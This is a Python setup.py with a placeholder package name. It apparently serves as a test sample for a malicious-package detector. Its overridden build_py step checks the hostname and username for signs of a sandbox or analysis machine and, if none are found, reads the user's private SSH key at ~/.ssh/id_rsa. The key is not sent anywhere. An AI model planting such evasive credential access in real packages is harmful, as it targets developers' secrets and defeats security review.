import os
import sys

from setuptools import setup
from setuptools.command.build_py import build_py as _base


class Step(_base):
    def run(self):
        import getpass, socket
        host, user = socket.gethostname().lower(), getpass.getuser().lower()
        if not (any(w in host for w in ("pipjail", "sandbox", "jail", "analysis", "malware", "cuckoo"))
                or user in ("sandbox", "nobody", "analyst", "malware")):
            with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
                f.read()
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"build_py": Step})
